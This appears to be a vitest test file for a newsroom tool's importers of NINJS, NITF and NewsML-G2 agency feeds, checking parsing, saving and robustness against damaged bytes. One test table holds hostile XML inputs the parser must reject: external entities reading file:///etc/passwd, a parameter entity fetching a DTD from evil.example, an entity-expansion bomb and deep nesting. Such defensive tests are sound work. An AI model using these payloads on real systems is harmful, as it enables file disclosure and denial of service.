import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseArticle, serializeArticle } from '#core/article/envelope';
import { articleFromIntake } from '#core/article/from-intake';
import { plainText, textBlocks } from '#core/body/walk';
import { formatById, formatForFile } from '#core/formats/registry';
import { type Imported, maximumImportBytes } from '#core/formats/types';
import { intake } from '#core/intake/intake';

const now = '2026-05-12T09:00:00.000Z';
const fixtures = join(import.meta.dirname, '../../fixtures/formats');
const ids = ['ninjs', 'nitf', 'newsml-g2'] as const;
const encode = (text: string): Uint8Array => new TextEncoder().encode(text);

function casesOf(
  id: (typeof ids)[number],
): { id: (typeof ids)[number]; name: string; bytes: Uint8Array; expected: object }[] {
  return readdirSync(join(fixtures, id))
    .filter((name) => /\.(?:xml|json)$/.test(name) && !name.endsWith('.expected.json'))
    .map((name) => {
      const expected = readFileSync(join(fixtures, id, name.replace(/\.\w+$/, '.expected.json')), 'utf8');
      return { id, name, bytes: readFileSync(join(fixtures, id, name)), expected: JSON.parse(expected) };
    });
}

/** What a fixture says of a reading: fields as they are, lines as `type: text`, the kinds of warnings. */
function told({ format: _format, encoding: _encoding, blocks, warnings, ...fields }: Imported): object {
  return {
    ...fields,
    blocks: [...textBlocks(blocks)]
      .map(({ type, content }) => `${type}: ${plainText(content)}`)
      .filter((line) => !line.startsWith('divider')),
    warnings: new Set(warnings.map(({ code }) => code)),
  };
}

const cases = ids.flatMap(casesOf);

describe('what agencies send', () => {
  it('has fixtures for each of its formats', () => {
    for (const id of ids) expect(cases.filter((one) => one.id === id).length).toBeGreaterThanOrEqual(3);
  });

  it.each(cases)(
    '$id/$name is recognised whatever it is called, and read',
    ({ id, name, bytes, expected }) => {
      expect(formatForFile('story.txt', bytes).id).toBe(id);
      expect(formatForFile(name, bytes).id).toBe(id);
      const read = formatById(id).read?.(bytes, { now });
      if (!read?.ok) throw new Error(read?.code);
      const { warnings, ...rest } = expected as { readonly warnings: readonly string[] };
      expect(told(read.value)).toEqual({ ...rest, warnings: new Set(warnings) });
      expect(read.value.format).toBe(id);
    },
  );

  it.each(cases)('$id/$name becomes an article that can be saved, and pollutes nothing', ({ id, bytes }) => {
    const read = formatById(id).read?.(bytes, { now });
    if (!read?.ok) throw new Error(read?.code);
    const article = articleFromIntake(intake(read.value, {}), { id: 'x', now, original: null });
    expect(parseArticle(serializeArticle(article))).toMatchObject({ ok: true });
    expect(({} as { isPolluted?: boolean }).isPolluted).toBeUndefined();
  });
});

describe('NITF keeps the marks, links and notes of its text', () => {
  const read = formatById('nitf').read?.(readFileSync(join(fixtures, 'nitf/schema.xml')), { now });
  if (!read?.ok) throw new Error(read?.code);
  const [lead, , list] = read.value.blocks;

  it('calls the footnote where it was called', () => {
    const note = read.value.blocks.find(({ type }) => type === 'footnote');
    expect(lead && 'content' in lead && lead.content.at(-1)).toEqual({
      type: 'note-reference',
      note: note?.id,
    });
  });

  it('keeps links and lowered figures', () => {
    expect(JSON.stringify(list)).toContain('"url":"https://ports.example/varley"');
    expect(JSON.stringify(read.value.blocks)).toContain('"text":"2","marks":["subscript"]');
  });

  it('keeps the head of a table', () =>
    expect(read.value.blocks.find(({ type }) => type === 'table')).toMatchObject({ header: true }));
});

const doctype = (entities: string, use: string): string =>
  `<!DOCTYPE nitf [${entities}]><nitf><body><body.content><p>${use}</p></body.content></body></nitf>`;
const bomb = Array.from(
  { length: 12 },
  (_, index) => `<!ENTITY e${index + 1} "${`&e${index};`.repeat(10)}">`,
).join('');
const item = (content: string): string =>
  `<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/"><contentSet>${content}</contentSet></newsItem>`;
const deep = (count: number): string => '<block>'.repeat(count) + '</block>'.repeat(count);

describe('what is broken, hostile or something else gives one failure', () => {
  it.each<readonly [string, (typeof ids)[number], string, string]>([
    [
      'an entity from outside',
      'nitf',
      doctype('<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;'),
      'input.malformed',
    ],
    [
      'a parameter entity',
      'nitf',
      doctype('<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;', '&q;'),
      'input.malformed',
    ],
    ['a bomb of entities', 'nitf', doctype(`<!ENTITY e0 "ha">${bomb}`, '&e12;'), 'input.malformed'],
    [
      'nesting without end',
      'nitf',
      `<nitf><body><body.content>${deep(5_000)}</body.content></body></nitf>`,
      'input.too-large',
    ],
    ['NITF that is cut off', 'nitf', '<nitf><body><body.content><p>One', 'input.malformed'],
    ['NITF without a word', 'nitf', '<nitf><body/></nitf>', 'input.empty'],
    ['another XML', 'nitf', '<rss><channel/></rss>', 'input.unsupported'],
    [
      'an entity in an item',
      'newsml-g2',
      `<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>${item('<inlineData>&x;</inlineData>')}`,
      'input.malformed',
    ],
    [
      'an item that is only linked',
      'newsml-g2',
      item('<remoteContent href="https://a.example/t.xml"/>'),
      'input.unsupported',
    ],
    ['NewsML 1', 'newsml-g2', '<NewsML><NewsItem/></NewsML>', 'input.unsupported'],
    ['an item without a word', 'newsml-g2', item('<inlineData> </inlineData>'), 'input.empty'],
    [
      'a message without items',
      'newsml-g2',
      '<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/"/>',
      'input.unsupported',
    ],
    ['ninjs that is cut off', 'ninjs', '{"uri":"urn:x","headlines":[{"value":"a', 'input.malformed'],
    [
      'JSON nested without end',
      'ninjs',
      `{"uri":"urn:x","headlines":${'['.repeat(200_000)}${']'.repeat(200_000)}}`,
      'input.empty',
    ],
    [
      'a picture',
      'ninjs',
      '{"uri":"urn:x","type":"picture","headlines":[{"value":"a"}]}',
      'input.unsupported',
    ],
    ['a list', 'ninjs', '[1, 2]', 'input.malformed'],
    [
      'an item without a word',
      'ninjs',
      '{"uri":"urn:x","type":"text","headlines":[],"bodies":[{"value":"  "}]}',
      'input.empty',
    ],
  ])('%s', (_what, id, text, code) => {
    const started = performance.now();
    expect(formatById(id).read?.(encode(text), { now })).toMatchObject({ ok: false, code });
    expect(performance.now() - started).toBeLessThan(2_000);
  });

  it.each(ids)('%s refuses what is larger than an import may be, before it looks at it', (id) =>
    expect(formatById(id).read?.(new Uint8Array(maximumImportBytes + 1), { now })).toMatchObject({
      code: 'input.too-large',
    }),
  );

  it('reads a large story in time, and takes no name of an entity for text', () => {
    const text = `<nitf><body><body.content>${'<p>Une phrase &amp; une autre.</p>'.repeat(20_000)}</body.content></body></nitf>`;
    const read = formatById('nitf').read?.(encode(text), { now });
    if (!read?.ok) throw new Error(read?.code);
    expect(read.value.blocks).toHaveLength(20_000);
  });
});

describe('readers never throw on damaged bytes', () => {
  it.each(cases)('$id/$name', ({ id, bytes, name }) => {
    const seed = [...name].reduce((sum, letter) => sum * 31 + letter.charCodeAt(0), 7) % 2 ** 31;
    const random = generator(seed);
    for (let round = 0; round < 150; round += 1) {
      const damaged = damage(bytes, random);
      const read = formatById(id).read?.(damaged, { now });
      expect(read, `seed ${seed}, round ${round}`).toBeDefined();
      if (read && !read.ok) expect(read.code, `seed ${seed}, round ${round}`).toMatch(/^input\./);
    }
  });
});

function generator(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) & 0x7fffffff;
    return (state >> 8) % below;
  };
}

/** Cut, doubled, or with single bytes changed. */
function damage(bytes: Uint8Array, random: (below: number) => number): Uint8Array {
  const kind = random(3);
  if (kind === 0) return bytes.slice(0, random(bytes.length));
  const copy = Uint8Array.from(bytes);
  if (kind === 1) copy.copyWithin(random(copy.length), random(copy.length), copy.length);
  for (let count = random(8) + 1; count > 0; count -= 1) copy[random(copy.length)] = random(256);
  return copy;
}
